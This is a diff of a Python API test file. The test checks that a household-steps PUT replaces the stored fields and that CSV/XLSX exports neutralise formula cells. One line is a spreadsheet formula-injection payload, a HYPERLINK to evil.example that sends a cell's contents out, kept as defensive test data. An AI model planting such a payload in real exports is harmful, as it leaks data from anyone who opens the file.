@@ -267,19 +267,22 @@ print(json.dumps({"filter": ws.auto_filter.ref, "rows": [list(r) for r in ws.ite
 
 # ------------------------------------------------------------------ formula injection, partial PUT
 
-def test_formula_cells_are_neutralised_and_partial_steps_keep_fields():
+def test_formula_cells_are_neutralised_and_a_steps_put_replaces():
     hid = next(e["household_id"] for e in get("/api/v1/worklists/archive_incomplete?limit=5").json["items"])
     full = {"responsible_person": "龙主任", "responsible_phone": "13800001111",
-            "village_command": "村指挥部", "town_command": "镇指挥部"}
+            "village_command": "村指挥部", "town_command": "镇指挥部",
+            "items": [{"step": "registration", "done_date": "2019-03-01", "done_by": "村干部"}]}
     r = S.request("PUT", "/api/v1/households/%d/steps" % hid, full, token=ADMIN, headers={"If-Match": "*"})
     expect(r.status == 200, "steps %r" % r)
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": evil}, token=ADMIN, headers={"If-Match": "*"})
-    expect(r.status == 200, "partial steps %r" % r)
+    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": evil, "items": []},
+                  token=ADMIN, headers={"If-Match": "*"})
+    expect(r.status == 200, "steps replaced %r" % r)
     now = get("/api/v1/households/%d/steps" % hid).json
     for k in ("responsible_phone", "village_command", "town_command"):
-        expect(now[k] == full[k], "a partial PUT keeps %s: %r" % (k, now[k]))
-    expect(now["responsible_person"] == evil, "and changes what it names")
+        expect(now[k] is None, "a PUT replaces: %s not sent is gone %r" % (k, now[k]))
+    expect(now["responsible_person"] == evil, "and holds what it names")
+    expect(all(s["done_date"] is None for s in now["items"]), "an empty list clears the steps %r" % now["items"])
     number = get("/api/v1/households/%d" % hid).json["number"]
     lines = read_csv(get("/api/v1/worklists/archive_incomplete?format=csv").body)
     row = next(l for l in lines if l[0] == number)
@@ -292,10 +295,10 @@ def test_formula_cells_are_neutralised_and_partial_steps_keep_fields():
     book = read_xlsx(get("/api/v1/reports/employment?format=xlsx").body)
     figures = [v for r in book["sheets"][0][1][2:] for v in r if isinstance(v, (int, float))]
     expect(figures, "figures are written as numbers")
-    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": None}, token=ADMIN, headers={"If-Match": "*"})
-    expect(get("/api/v1/households/%d/steps" % hid).json["responsible_person"] is None
-           and get("/api/v1/households/%d/steps" % hid).json["town_command"] == "镇指挥部",
-           "null clears only what it names")
+    r = S.request("PUT", "/api/v1/households/%d/steps" % hid, {"responsible_person": None, "items": []},
+                  token=ADMIN, headers={"If-Match": "*"})
+    expect(r.status == 200 and get("/api/v1/households/%d/steps" % hid).json["responsible_person"] is None,
+           "null clears %r" % r)
 
 
 # ------------------------------------------------------------------ long lists, bounded memory
